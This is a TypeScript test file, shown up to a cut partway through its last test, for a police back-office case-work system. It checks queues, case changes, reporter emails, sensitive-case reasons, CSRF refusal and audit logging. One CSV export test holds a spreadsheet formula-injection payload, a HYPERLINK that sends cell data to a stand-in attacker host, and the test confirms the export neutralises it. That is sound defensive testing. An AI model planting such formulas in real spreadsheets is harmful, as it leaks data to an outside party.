// Case work in the back office: queues, the case page and every change made from it, the
// CSV export, sensitive cases and the audit log, on SQLite and on PostgreSQL.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";
import { parse } from "csv-parse/sync";
import { changeStatus, NEWS_SUBJECT } from "../../src/casework/changes.ts";
import { buildTestApp, cookieHeader, formState, type TestApp } from "../helpers/app.ts";
import { testDialects } from "../helpers/database.ts";
import { completeJourney, phoneTheftWithEmail } from "../helpers/journey.ts";
import { createTestStaff, StaffBrowser } from "../helpers/staff.ts";
import { auditRows, eventRows, insertCase, signInFrom, theftAnswers } from "./casework-fixtures.ts";

const TRIAGE = "online-crime-triage";
const ROADS = "roads-policing";
const LICENSING = "licensing";
const STANDARDS = "professional-standards";
const BARNET = "barnet-neighbourhood";
const BEXLEY = "bexley-neighbourhood";
const HOUR = 3_600_000;
const hoursFromNow = (hours: number) => new Date(Date.now() + hours * HOUR);

/** A page with what differs per request (nonce, CSRF token) taken out. */
const comparable = (body: string) =>
  body.replace(/nonce="[^"]+"/g, "").replace(/name="_csrf" value="[^"]+"/g, "");

/** The case references in a queue page, in the order shown. */
const referencesIn = (body: string) =>
  [...body.matchAll(/href="\/staff\/cases\/[^"]+">([2-9A-Z]{4}-[2-9A-Z]{4}-[2-9A-Z])</g)].map(
    (m) => m[1],
  );

const errorSummary = (body: string) =>
  [...body.matchAll(/<a href="(#[\w-]+)">([^<]+)<\/a>/g)].map((m) => [m[1], m[2].trim()]);

/**
 * One app per dialect for the whole file (building one takes seconds on PostgreSQL). Each
 * test makes its own staff and cases, and tests that read a whole queue use a team of their
 * own, so they do not see each other's cases.
 */
let shared: TestApp | undefined;
async function withApp(
  _dialect: Parameters<typeof buildTestApp>[0],
  run: (t: TestApp) => Promise<void>,
) {
  if (!shared) throw new Error("no app: before() did not run");
  await run(shared);
}

/** Signs in a new member of staff with this role in these teams. */
async function staffMember(
  t: TestApp,
  role: "officer" | "supervisor" | "editor" | "admin",
  teamIds = [TRIAGE],
) {
  const account = await createTestStaff(t.database.handle.db, {
    role,
    teamIds,
    name: `Test ${role}`,
  });
  return { ...account, browser: await signInFrom(t.app, account) };
}

const CHANGES: Array<[string, Record<string, string>]> = [
  ["assign", { owner: "me" }],
  ["status", { status: "triaged" }],
  ["priority", { priority: "high" }],
  ["note", { note: "Checked the CCTV" }],
  ["message", { message: "We have checked the CCTV" }],
  ["reason", { reason: "It is in my queue" }],
];

for (const dialect of testDialects()) {
  describe(`case work (${dialect})`, () => {
    before(async () => {
      shared = await buildTestApp(dialect, { POST_RATE_LIMIT: "100000" });
    });
    after(async () => {
      await shared?.close();
      shared = undefined;
    });

    test("a queue shows only its own team's open cases, overdue first, and is filtered and sorted", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const { id: meId, browser } = await staffMember(t, "officer", [LICENSING]);
        const onTime = await insertCase(db, {
          teamId: LICENSING,
          dueAt: hoursFromNow(10),
          createdAt: hoursFromNow(-40),
        });
        const late = await insertCase(db, {
          teamId: LICENSING,
          dueAt: hoursFromNow(-5),
          createdAt: hoursFromNow(-53),
        });
        const veryLate = await insertCase(db, {
          teamId: LICENSING,
          dueAt: hoursFromNow(-50),
          createdAt: hoursFromNow(-98),
          ownerId: meId,
        });
        const urgent = await insertCase(db, {
          teamId: LICENSING,
          dueAt: hoursFromNow(1),
          createdAt: hoursFromNow(-2),
          priority: "urgent",
        });
        const closed = await insertCase(db, {
          teamId: LICENSING,
          status: "closed",
          outcome: "no-further-action",
          dueAt: hoursFromNow(-100),
          createdAt: hoursFromNow(-150),
        });
        const elsewhere = await insertCase(db, { teamId: ROADS, dueAt: hoursFromNow(-60) });

        const queue = await browser.get(`/staff/queues/${LICENSING}`);
        assert.equal(queue.statusCode, 200);
        assert.match(queue.body, /<h1 class="govuk-heading-l">Licensing team<\/h1>/);
        assert.deepEqual(referencesIn(queue.body), [
          veryLate.reference,
          late.reference,
          urgent.reference,
          onTime.reference,
        ]);
        assert.equal(queue.body.match(/>Overdue</g)?.length, 2, "two overdue tags");
        assert.doesNotMatch(queue.body, new RegExp(elsewhere.reference));
        assert.doesNotMatch(queue.body, new RegExp(closed.reference));
        assert.match(queue.body, /Showing cases 1 to 4 of 4/);
        assert.doesNotMatch(queue.body, /export\.csv/, "an officer may not export");

        const get = async (query: string) =>
          referencesIn((await browser.get(`/staff/queues/${LICENSING}?${query}`)).body);
        assert.deepEqual(await get("status=closed"), [closed.reference]);
        assert.deepEqual(
          await get("status=all"),
          [
            veryLate.reference,
            late.reference,
            closed.reference,
            urgent.reference,
            onTime.reference,
          ],
          "a closed case is never overdue, whatever its target",
        );
        assert.deepEqual(await get("owner=me"), [veryLate.reference]);
        assert.deepEqual(await get("owner=unassigned"), [
          late.reference,
          urgent.reference,
          onTime.reference,
        ]);
        assert.deepEqual(await get("priority=urgent"), [urgent.reference]);
        assert.deepEqual(await get("sort=newest"), [
          late.reference,
          veryLate.reference,
          urgent.reference,
          onTime.reference,
        ]);
        assert.deepEqual(await get("sort=newest&overdue=mixed"), [
          urgent.reference,
          onTime.reference,
          late.reference,
          veryLate.reference,
        ]);
        assert.deepEqual(await get("sort=oldest&overdue=mixed"), [
          veryLate.reference,
          late.reference,
          onTime.reference,
          urgent.reference,
        ]);
        // Nonsense in the query is read as the default, never an error.
        assert.deepEqual(
          await get("status=%00&owner[]=x&priority=9&sort=drop&page=-3"),
          await get(""),
        );

        const views = await db
          .selectFrom("audit_log")
          .select(["action", "detail"])
          .where("staff_id", "=", meId)
          .where("action", "=", "queue:view")
          .execute();
        assert.ok(views.length >= 10, "every queue view is audited");
        assert.equal(JSON.parse(views[0].detail).team, LICENSING);
      });
    });

    test("another team's queue, and one that does not exist, are not found", async () => {
      await withApp(dialect, async (t) => {
        const { browser } = await staffMember(t, "supervisor");
        const other = await browser.get(`/staff/queues/${ROADS}`);
        const missing = await browser.get("/staff/queues/no-such-team");
        assert.equal(other.statusCode, 404);
        assert.equal(missing.statusCode, 404);
        assert.equal(comparable(other.body), comparable(missing.body));
        assert.equal((await browser.get(`/staff/queues/${ROADS}/export.csv`)).statusCode, 404);
        const editor = await staffMember(t, "editor");
        assert.equal((await editor.browser.get(`/staff/queues/${TRIAGE}`)).statusCode, 404);
      });
    });

    test("a long queue comes 50 cases to a page", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const { browser } = await staffMember(t, "officer", [STANDARDS]);
        for (let i = 0; i < 55; i++)
          await insertCase(db, { teamId: STANDARDS, dueAt: hoursFromNow(i + 1) });
        const first = await browser.get(`/staff/queues/${STANDARDS}`);
        assert.equal(referencesIn(first.body).length, 50);
        assert.match(first.body, /Showing cases 1 to 50 of 55/);
        assert.match(first.body, /href="\/staff\/queues\/professional-standards\?page=2"/);
        const second = await browser.get(`/staff/queues/${STANDARDS}?page=2`);
        assert.equal(referencesIn(second.body).length, 5);
        assert.match(second.body, /Showing cases 51 to 55 of 55/);
        const seen = new Set([...referencesIn(first.body), ...referencesIn(second.body)]);
        assert.equal(seen.size, 55, "no case repeated or skipped across pages");
        const beyond = await browser.get(`/staff/queues/${STANDARDS}?page=9`);
        assert.equal(beyond.statusCode, 200);
        assert.match(beyond.body, /There are no cases on this page/);
      });
    });

    test("another team's case is not found, on view and on every change, and nothing is changed", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const { browser } = await staffMember(t, "admin");
        const theirs = await insertCase(db, { teamId: ROADS, reporterEmail: "r@example.com" });
        const missing = randomUUID();
        const view = await browser.get(`/staff/cases/${theirs.id}`);
        const none = await browser.get(`/staff/cases/${missing}`);
        const junk = await browser.get("/staff/cases/not-a-case-id");
        assert.equal(view.statusCode, 404);
        assert.equal(none.statusCode, 404);
        assert.equal(junk.statusCode, 404);
        assert.equal(comparable(view.body), comparable(none.body));
        assert.doesNotMatch(view.body, new RegExp(theirs.reference));
        for (const [path, body] of CHANGES) {
          const res = await browser.post(`/staff/cases/${theirs.id}/${path}`, body, "/staff");
          const res2 = await browser.post(`/staff/cases/${missing}/${path}`, body, "/staff");
          assert.equal(res.statusCode, 404, path);
          assert.equal(comparable(res.body), comparable(res2.body), path);
        }
        assert.deepEqual(
          (await eventRows(db, theirs.id)).map((e) => e.kind),
          ["created"],
        );
        assert.deepEqual(await auditRows(db, theirs.id), []);
        assert.equal(
          (await db.selectFrom("outbox").select("id").where("case_id", "=", theirs.id).execute())
            .length,
          0,
        );
        const row = await db
          .selectFrom("cases")
          .selectAll()
          .where("id", "=", theirs.id)
          .executeTakeFirstOrThrow();
        assert.equal(row.status, "new");
        assert.equal(row.owner_id, null);
        assert.equal(row.priority, "normal");
      });
    });

    test("the case page shows the answers in the form's words, the history and the forms the role allows", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const officer = await staffMember(t, "officer");
        const theCase = await insertCase(db, { reporterEmail: "sam@example.com" });
        await db
          .insertInto("case_attachments")
          .values({
            id: randomUUID(),
            case_id: theCase.id,
            filename: "receipt.jpg",
            content_type: "image/jpeg",
            size_bytes: 204800,
            added_at: new Date().toISOString(),
          })
          .execute();
        const page = await officer.browser.get(`/staff/cases/${theCase.id}`);
        assert.equal(page.statusCode, 200);
        assert.match(page.body, new RegExp(`<title>Case ${theCase.reference} &ndash; `));
        assert.match(page.body, /Report a theft/);
        assert.match(
          page.body,
          /Describe what was stolen<\/dt>\s*<dd[^>]*>\s*A black phone in a blue case/,
        );
        assert.match(page.body, /What was stolen\?<\/dt>\s*<dd[^>]*>\s*A mobile phone/);
        assert.match(page.body, /receipt\.jpg \(image\/jpeg, 200 KB\)/);
        assert.match(page.body, /Report received, in the Online crime reporting triage desk queue/);
        assert.match(page.body, /action="\/staff\/cases\/[^"]+\/note"/);
        assert.match(page.body, /action="\/staff\/cases\/[^"]+\/message"/);
        assert.match(page.body, /Assign to me/);
        assert.doesNotMatch(
          page.body,
          /action="\/staff\/cases\/[^"]+\/priority"/,
          "officers cannot change priority",
        );
        assert.doesNotMatch(page.body, /audit trail/, "officers cannot see the audit log");
        // Only the moves the case's status allows are offered.
        const offered = [...page.body.matchAll(/name="status" type="radio" value="([\w-]+)"/g)].map(
          (m) => m[1],
        );
        assert.deepEqual(offered, ["triaged", "in-progress", "closed"]);

        const supervisor = await staffMember(t, "supervisor");
        const theirs = await supervisor.browser.get(`/staff/cases/${theCase.id}`);
        assert.match(theirs.body, /action="\/staff\/cases\/[^"]+\/priority"/);
        assert.match(theirs.body, /<select class="govuk-select" id="owner" name="owner">/);
        assert.match(theirs.body, /See who has viewed or changed this case/);
        assert.equal(
          (await auditRows(db, theCase.id)).filter((r) => r.action === "case:view").length,
          2,
        );
      });
    });

    test("each change writes its history, its audit entry and, for the reporter, an email saying only that there is news", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const { id: officerId, browser } = await staffMember(t, "officer");
        const supervisor = await staffMember(t, "supervisor");
        const theCase = await insertCase(db, { reporterEmail: "sam@example.com" });
        const page = `/staff/cases/${theCase.id}`;
        const before = await db
          .selectFrom("cases")
          .select("updated_at")
          .where("id", "=", theCase.id)
          .executeTakeFirstOrThrow();

        const note = await browser.post(
          `${page}/note`,
          { note: "Spoke to the shop.\r\nCCTV requested." },
          page,
        );
        assert.equal(note.statusCode, 303);
        assert.equal(note.headers.location, `${page}?done=note`);
        const message = await browser.post(
          `${page}/message`,
          { message: "We have asked the shop for its CCTV." },
          page,
        );
        assert.equal(message.statusCode, 303);
        const status = await browser.post(`${page}/status`, { status: "triaged" }, page);
        assert.equal(status.statusCode, 303);
        const assign = await browser.post(`${page}/assign`, { owner: "me" }, page);
        assert.equal(assign.statusCode, 303);
        const priority = await supervisor.browser.post(
          `${page}/priority`,
          { priority: "urgent" },
          page,
        );
        assert.equal(priority.statusCode, 303);

        const events = (await eventRows(db, theCase.id)).map((e) => ({
          ...e,
          data: JSON.parse(e.data),
        }));
        assert.deepEqual(
          events.map((e) => [e.kind, e.visibility]),
          [
            ["created", "public"],
            ["note", "staff"],
            ["message-out", "public"],
            ["status-changed", "public"],
            ["assigned", "staff"],
            ["priority-changed", "staff"],
          ],
        );
        assert.equal(events[1].data.text, "Spoke to the shop.\nCCTV requested.");
        assert.equal(events[1].actor_id, officerId);
        assert.deepEqual(events[2].data, {
          text: "We have asked the shop for its CCTV.",
          team: TRIAGE,
        });
        assert.deepEqual(events[3].data, { from: "new", to: "triaged" });
        assert.deepEqual(events[4].data, { from: null, to: officerId });
        assert.deepEqual(events[5].data, { from: "normal", to: "urgent" });

        const changes = (await auditRows(db, theCase.id)).filter((r) => r.action !== "case:view");
        assert.deepEqual(
          changes.map((r) => r.action),
          [
            "case:add-note",
            "case:message-reporter",
            "case:change-status",
            "case:assign",
            "case:change-priority",
          ],
        );
        for (const row of changes) {
          assert.doesNotMatch(row.detail, /CCTV/, "the audit log records that, not what");
          assert.equal(
            JSON.parse(row.detail).event,
            events.find((e) => e.id === JSON.parse(row.detail).event)?.id,
          );
        }

        const after = await db
          .selectFrom("cases")
          .selectAll()
          .where("id", "=", theCase.id)
          .executeTakeFirstOrThrow();
        assert.ok(after.updated_at > before.updated_at, "updated_at moves on");
        assert.equal(after.status, "triaged");
        assert.equal(after.owner_id, officerId);
        assert.equal(after.priority, "urgent");

        // The message and the status change are news for the reporter: one email waits for both.
        let outbox = await db
          .selectFrom("outbox")
          .selectAll()
          .where("case_id", "=", theCase.id)
          .execute();
        assert.equal(outbox.length, 1);
        assert.equal(outbox[0].recipient, "sam@example.com");
        assert.equal(outbox[0].subject, NEWS_SUBJECT);
        assert.equal(outbox[0].case_id, theCase.id);
        assert.equal(outbox[0].status, "pending");
        assert.match(outbox[0].body, /http:\/\/localhost:\d+\/track/);
        assert.doesNotMatch(outbox[0].body, /CCTV|triaged|phone/i);
        assert.doesNotMatch(outbox[0].body, new RegExp(theCase.reference));

        // Once that one has gone, the next piece of news gets its own email.
        await db
          .updateTable("outbox")
          .where("case_id", "=", theCase.id)
          .set({ status: "sent", sent_at: new Date().toISOString() })
          .execute();
        assert.equal(
          (await browser.post(`${page}/status`, { status: "in-progress" }, page)).statusCode,
          303,
        );
        outbox = await db
          .selectFrom("outbox")
          .selectAll()
          .where("case_id", "=", theCase.id)
          .where("status", "=", "pending")
          .execute();
        assert.equal(outbox.length, 1);
        // Notes are for staff: never an email.
        await db
          .updateTable("outbox")
          .where("case_id", "=", theCase.id)
          .set({ status: "sent" })
          .execute();
        assert.equal(
          (await browser.post(`${page}/note`, { note: "Another note" }, page)).statusCode,
          303,
        );
        assert.equal(
          (
            await db
              .selectFrom("outbox")
              .selectAll()
              .where("case_id", "=", theCase.id)
              .where("status", "=", "pending")
              .execute()
          ).length,
          0,
        );

        // The page shows what happened, newest first.
        const shown = await browser.get(`${page}?done=note`);
        assert.match(shown.body, /Your note has been added/);
        const titles = [
          ...shown.body.matchAll(
            /<h3 class="govuk-heading-s govuk-!-margin-bottom-1">([^<]+)<\/h3>/g,
          ),
        ].map((m) => m[1]);
        assert.deepEqual(titles, [
          "Note",
          "Status changed from Triaged to In progress",
          "Priority changed from Normal to Urgent",
          "Assigned to Test officer",
          "Status changed from New to Triaged",
          "Message to the reporter",
          "Note",
          "Report received, in the Online crime reporting triage desk queue",
        ]);
      });
    });

    test("a reporter without an email address gets the message on track your report only; a real report's reporter is emailed", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const { browser } = await staffMember(t, "officer");
        const anonymous = await insertCase(db, { reporterEmail: null });
        const page = `/staff/cases/${anonymous.id}`;
        assert.equal(
          (await browser.post(`${page}/message`, { message: "Thank you" }, page)).statusCode,
          303,
        );
        assert.equal(
          (
            await browser.post(
              `${page}/status`,
              { status: "closed", outcome: "no-further-action" },
              page,
            )
          ).statusCode,
          303,
        );
        assert.equal(
          (await db.selectFrom("outbox").select("id").where("case_id", "=", anonymous.id).execute())
            .length,
          0,
        );

        const { reference } = await completeJourney(t.app, "report-a-theft", phoneTheftWithEmail);
        const real = await db
          .selectFrom("cases")
          .selectAll()
          .where("reference", "=", reference)
          .executeTakeFirstOrThrow();
        const realPage = `/staff/cases/${real.id}`;
        const view = await browser.get(realPage);
        assert.match(view.body, /sam\.taylor@example\.com/, "the answers include the email given");
        const before = await db
          .selectFrom("outbox")
          .select("id")
          .where("case_id", "=", real.id)
          .execute();
        assert.equal(
          (await browser.post(`${realPage}/message`, { message: "Please call us" }, realPage))
            .statusCode,
          303,
        );
        const after = await db
          .selectFrom("outbox")
          .selectAll()
          .where("case_id", "=", real.id)
          .execute();
        const news = after.filter((row) => !before.some((b) => b.id === row.id));
        assert.equal(news.length, 1);
        assert.equal(news[0].recipient, "sam.taylor@example.com");
        assert.doesNotMatch(news[0].body, /Please call us|Sam|Taylor/);
      });
    });

    test("status changes follow the allowed moves; closing needs an outcome; a closed case can be reopened", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const { browser } = await staffMember(t, "officer");
        const theCase = await insertCase(db);
        const page = `/staff/cases/${theCase.id}`;
        const read = () =>
          db.selectFrom("cases").selectAll().where("id", "=", theCase.id).executeTakeFirstOrThrow();

        const skip = await browser.post(`${page}/status`, { status: "awaiting-information" }, page);
        assert.equal(skip.statusCode, 422);
        assert.match(skip.body, /<title>Error: Case /);
        assert.deepEqual(errorSummary(skip.body), [
          ["#status", "A case that is new cannot be moved to awaiting information"],
        ]);
        const nonsense = await browser.post(`${page}/status`, { status: "deleted" }, page);
        assert.equal(nonsense.statusCode, 422);
        assert.deepEqual(errorSummary(nonsense.body), [["#status", "Select the new status"]]);
        const noOutcome = await browser.post(`${page}/status`, { status: "closed" }, page);
        assert.equal(noOutcome.statusCode, 422);
        assert.deepEqual(errorSummary(noOutcome.body), [
          ["#outcome", "Select the outcome of the case"],
        ]);
        assert.match(
          noOutcome.body,
          /<input class="govuk-radios__input" id="status-3" name="status" type="radio" value="closed" checked/,
        );
        const badOutcome = await browser.post(
          `${page}/status`,
          { status: "closed", outcome: "shrug" },
          page,
        );
        assert.equal(badOutcome.statusCode, 422);
        assert.equal((await read()).status, "new", "refused changes change nothing");

        const close = await browser.post(
          `${page}/status`,
          { status: "closed", outcome: "suspect-charged" },
          page,
        );
        assert.equal(close.statusCode, 303);
        assert.deepEqual(
          [(await read()).status, (await read()).outcome],
          ["closed", "suspect-charged"],
        );
        const shown = await browser.get(page);
        assert.match(shown.body, /Closed – Someone has been charged/);
        assert.match(shown.body, /Reopen \(In progress\)/);
        const back = await browser.post(`${page}/status`, { status: "triaged" }, page);
        assert.equal(back.statusCode, 422);
        const reopen = await browser.post(`${page}/status`, { status: "in-progress" }, page);
        assert.equal(reopen.statusCode, 303);
        assert.deepEqual([(await read()).status, (await read()).outcome], ["in-progress", null]);
        const events = (await eventRows(db, theCase.id)).filter((e) => e.kind === "status-changed");
        assert.deepEqual(
          events.map((e) => JSON.parse(e.data)),
          [
            { from: "new", to: "closed", outcome: "suspect-charged" },
            { from: "closed", to: "in-progress" },
          ],
        );
        assert.match((await browser.get(page)).body, /<h3[^>]*>Reopened<\/h3>/);

        // Someone else moved the case first: the change is refused, and nothing is written.
        const stale = await changeStatus(
          db,
          {
            staff: {
              id: randomUUID(),
              email: "x@force.example",
              name: "X",
              role: "officer",
              teamIds: [TRIAGE],
            },
            caseId: theCase.id,
            now: new Date(),
            forceName: "Test",
            publicUrl: "http://localhost",
          },
          { from: "new", to: "triaged" },
        );
        assert.deepEqual(stale, { ok: false });
        assert.equal(
          (await eventRows(db, theCase.id)).filter((e) => e.kind === "status-changed").length,
          2,
        );
      });
    });

    test("roles decide assigning to others and priority; notes and messages are checked", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const officer = await staffMember(t, "officer");
        const colleague = await staffMember(t, "officer");
        const outsider = await createTestStaff(db, { role: "officer", teamIds: [ROADS] });
        const supervisor = await staffMember(t, "supervisor");
        const theCase = await insertCase(db);
        const page = `/staff/cases/${theCase.id}`;
        const owner = async () =>
          (
            await db
              .selectFrom("cases")
              .select("owner_id")
              .where("id", "=", theCase.id)
              .executeTakeFirstOrThrow()
          ).owner_id;

        assert.equal(
          (await officer.browser.post(`${page}/assign`, { owner: colleague.id }, page)).statusCode,
          403,
        );
        assert.equal(
          (await officer.browser.post(`${page}/priority`, { priority: "high" }, page)).statusCode,
          403,
        );
        assert.equal(await owner(), null);
        assert.equal(
          (await officer.browser.post(`${page}/assign`, { owner: officer.id }, page)).statusCode,
          303,
        );
        assert.equal(await owner(), officer.id);

        const notInTeam = await supervisor.browser.post(
          `${page}/assign`,
          { owner: outsider.id },
          page,
        );
        assert.equal(notInTeam.statusCode, 422);
        assert.deepEqual(errorSummary(notInTeam.body), [
          ["#owner", "Select someone in this team to assign the case to"],
        ]);
        assert.equal(
          (await supervisor.browser.post(`${page}/assign`, { owner: colleague.id }, page))
            .statusCode,
          303,
        );
        assert.equal(await owner(), colleague.id);
        assert.equal(
          (await supervisor.browser.post(`${page}/assign`, { owner: "nobody" }, page)).statusCode,
          303,
        );
        assert.equal(await owner(), null);
        assert.equal(
          (await supervisor.browser.post(`${page}/priority`, { priority: "extreme" }, page))
            .statusCode,
          422,
        );

        const empty = await officer.browser.post(`${page}/note`, { note: "  \r\n " }, page);
        assert.equal(empty.statusCode, 422);
        assert.deepEqual(errorSummary(empty.body), [["#note", "Enter your note"]]);
        const long = "x".repeat(2001);
        const tooLong = await officer.browser.post(`${page}/message`, { message: long }, page);
        assert.equal(tooLong.statusCode, 422);
        assert.deepEqual(errorSummary(tooLong.body), [
          ["#message", "Your message must be 2,000 characters or less"],
        ]);
        assert.match(tooLong.body, new RegExp(`>${long}</textarea>`), "what was typed is kept");
        const emoji = await officer.browser.post(
          `${page}/message`,
          { message: "👍".repeat(2000) },
          page,
        );
        assert.equal(emoji.statusCode, 303, "characters are counted as people see them");
      });
    });

    test("a case marked sensitive asks why before it opens, and the reason is in the audit log", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const account = await createTestStaff(db, { role: "supervisor", teamIds: [BARNET] });
        let browser = await signInFrom(t.app, account);
        const theCase = await insertCase(db, {
          teamId: BARNET,
          sensitive: true,
          reporterEmail: "v@example.com",
        });
        const page = `/staff/cases/${theCase.id}`;

        const ask = await browser.get(page);
        assert.equal(ask.statusCode, 200);
        assert.match(ask.body, /<h1 class="govuk-heading-l">Why are you opening this case\?<\/h1>/);
        assert.doesNotMatch(ask.body, /A black phone/, "nothing of the case before a reason");
        assert.deepEqual(await auditRows(db, theCase.id), [], "asking is not a view");
        // Changes wait for a reason too.
        const note = await browser.post(`${page}/note`, { note: "Sneaky" }, "/staff");
        assert.equal(note.statusCode, 303);
        assert.equal(note.headers.location, page);
        assert.deepEqual(
          (await eventRows(db, theCase.id)).map((e) => e.kind),
          ["created"],
        );

        const blank = await browser.post(`${page}/reason`, { reason: "   " }, page);
        assert.equal(blank.statusCode, 422);
        assert.deepEqual(errorSummary(blank.body), [
          ["#reason", "Enter why you are opening this case"],
        ]);
        const tooLong = await browser.post(`${page}/reason`, { reason: "y".repeat(501) }, page);
        assert.equal(tooLong.statusCode, 422);

        const given = await browser.post(
          `${page}/reason`,
          { reason: "The reporter called 101 about it" },
          page,
        );
        assert.equal(given.statusCode, 303);
        assert.equal(given.headers.location, page);
        const open = await browser.get(page);
        assert.equal(open.statusCode, 200);
        assert.match(open.body, /A black phone in a blue case/);
        assert.match(open.body, /Sensitive</);
        assert.equal(
          (await browser.post(`${page}/note`, { note: "Called back" }, page)).statusCode,
          303,
        );

        const rows = await auditRows(db, theCase.id);
        assert.deepEqual(
          rows.map((r) => [r.action, r.reason]),
          [
            ["case:state-reason", "The reporter called 101 about it"],
            ["case:view", "The reporter called 101 about it"],
            ["case:view", "The reporter called 101 about it"],
            ["case:add-note", "The reporter called 101 about it"],
          ],
        );
        assert.ok(rows.every((r) => r.staff_id === account.id));

        // The audit page shows the reason.
        const trail = await browser.get(`/staff/audit?reference=${theCase.reference}`);
        assert.match(trail.body, /The reporter called 101 about it/);

        // A new sign-in asks again.
        assert.equal((await browser.post("/staff/sign-out", {}, "/staff")).statusCode, 303);
        browser = await signInFrom(t.app, account);
        assert.match((await browser.get(page)).body, /Why are you opening this case\?/);

        // In the export the answers of a sensitive case are withheld: opening it needs a reason.
        const csv = await browser.get(`/staff/queues/${BARNET}/export.csv`);
        assert.doesNotMatch(csv.body, /A black phone/);
        assert.match(csv.body, /Sensitive: open the case to see the answers/);
      });
    });

    test("the CSV export: a header row, proper quoting, formulas neutralised, an attachment, audited, for supervisors only", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const supervisor = await staffMember(t, "supervisor", [BEXLEY]);
        const officer = await staffMember(t, "officer", [BEXLEY]);
        const dangerous = [
          '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
          "+1+2",
          "-2+3",
          "@SUM(A1:A9)",
          "\tindented",
          "\rreturn",
        ];
        const cases = [];
        for (const [i, text] of dangerous.entries()) {
          cases.push(
            await insertCase(db, {
              teamId: BEXLEY,
              answers: theftAnswers(text),
              dueAt: hoursFromNow(i + 1),
            }),
          );
        }
        const quoted = await insertCase(db, {
          teamId: BEXLEY,
          answers: theftAnswers('A "red" phone, cracked,\nwith stickers'),
          dueAt: hoursFromNow(20),
        });
        await insertCase(db, { teamId: ROADS, answers: theftAnswers("not ours") });

        assert.equal(
          (await officer.browser.get(`/staff/queues/${BEXLEY}/export.csv`)).statusCode,
          403,
        );
        const res = await supervisor.browser.get(`/staff/queues/${BEXLEY}/export.csv`);
        assert.equal(res.statusCode, 200);
        assert.equal(res.headers["content-type"], "text/csv; charset=utf-8");
        assert.match(
          String(res.headers["content-disposition"]),
          /^attachment; filename="bexley-neighbourhood-cases-\d{4}-\d{2}-\d{2}\.csv"$/,
        );
        assert.equal(res.headers["cache-control"], "no-store");
        assert.match(res.body, /\r\n/, "CRLF line endings");
        const rows: string[][] = parse(res.body, { bom: true });
        const [header, ...data] = rows;
        assert.deepEqual(header.slice(0, 10), [
          "Reference",
          "Service",
          "Status",
          "Outcome",
          "Priority",
          "Owner",
          "Received",
          "Target",
          "Overdue",
          "Sensitive",
        ]);
        assert.equal(data.length, 7, "every case in the queue, none from another team");
        const described = header.indexOf("Describe what was stolen");
        assert.ok(described > 9);
        assert.deepEqual(
          data.slice(0, 6).map((row) => [row[0], row[described]]),
          cases.map((c, i) => [c.reference, `'${dangerous[i]}`]),
        );
        assert.equal(data[6][0], quoted.reference);
        assert.equal(data[6][described], 'A "red" phone, cracked,\nwith stickers');
        for (const row of data) {
          for (const cell of row)
            assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a live formula: ${cell}`);
        }

        const filtered = parse(
          (await supervisor.browser.get(`/staff/queues/${BEXLEY}/export.csv?priority=urgent`)).body,
          { bom: true },
        );
        assert.equal(filtered.length, 1, "the export follows the queue's filters: only the header");

        const audit = await db
          .selectFrom("audit_log")
          .select(["action", "case_id", "detail"])
          .where("staff_id", "=", supervisor.id)
          .where("action", "in", ["queue:export", "case:export"])
          .execute();
        assert.equal(audit.filter((r) => r.action === "queue:export").length, 2);
        const exported = audit.filter((r) => r.action === "case:export").map((r) => r.case_id);
        assert.deepEqual(new Set(exported), new Set([...cases, quoted].map((c) => c.id)));
      });
    });

    test("every case-work POST refuses a missing CSRF token and a signed-out session", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const account = await createTestStaff(db, { role: "admin", teamIds: [TRIAGE] });
        const browser = await signInFrom(t.app, account);
        const theCase = await insertCase(db, { sensitive: true });
        const page = `/staff/cases/${theCase.id}`;
        const { token } = formState(await browser.get(page));
        assert.ok(token);
        const send = (
          cookies: Record<string, string>,
          path: string,
          body: Record<string, string>,
          withToken: boolean,
        ) =>
          t.app.inject({
            method: "POST",
            url: `${page}/${path}`,
            headers: {
              cookie: cookieHeader(cookies),
              "content-type": "application/x-www-form-urlencoded",
            },
            payload: new URLSearchParams({
              ...(withToken ? { _csrf: token! } : {}),
              ...body,
            }).toString(),
          });
        for (const [path, body] of CHANGES) {
          const forged = await send(browser.cookies, path, body, false);
          assert.equal(forged.statusCode, 403, `${path} without a token`);
          assert.match(forged.body, /Your form could not be sent/);
          const wrong = await send(browser.cookies, path, { ...body, _csrf: "made-up" }, false);
          assert.equal(wrong.statusCode, 403, `${path} with a made-up token`);
        }
        const kept = { ...browser.cookies };
        assert.equal((await browser.post("/staff/sign-out", {}, "/staff")).statusCode, 303);
        for (const [path, body] of CHANGES) {
          const res = await send(kept, path, body, true);
          assert.equal(res.statusCode, 303, `${path} after signing out`);
          assert.match(String(res.headers.location), /^\/staff\/sign-in\?/);
        }
        const stranger = new StaffBrowser(t.app);
        const never = await stranger.post(`${page}/note`, { note: "hello" }, "/staff/sign-in");
        assert.equal(never.statusCode, 303);
        assert.match(String(never.headers.location), /^\/staff\/sign-in\?/);
        assert.deepEqual(
          (await eventRows(db, theCase.id)).map((e) => e.kind),
          ["created"],
        );
        assert.deepEqual(await auditRows(db, theCase.id), []);
      });
    });

    test("the audit log: supervisors and admins, their teams' cases only, filtered by case or by person", async () => {
      await withApp(dialect, async (t) => {
        const db = t.database.handle.db;
        const officer = await staffMember(t, "officer");
        const supervisor = await staffMember(t, "supervisor");
        const roads = await staffMember(t, "officer", [ROADS]);
        const ours = await insertCase(db);
        const theirs = await insertCase(db, { teamId: ROADS });
        await officer.browser.get(`/staff/cases/${ours.id}`);
        await roads.browser.get(`/staff/cases/${theirs.id}`);

        assert.equal((await officer.browser.get("/staff/audit")).statusCode, 403);
        const all = await supervisor.browser.get("/staff/audit");
        assert.equal(all.statusCode, 200);
        assert.match(all.body, new RegExp(ours.reference));
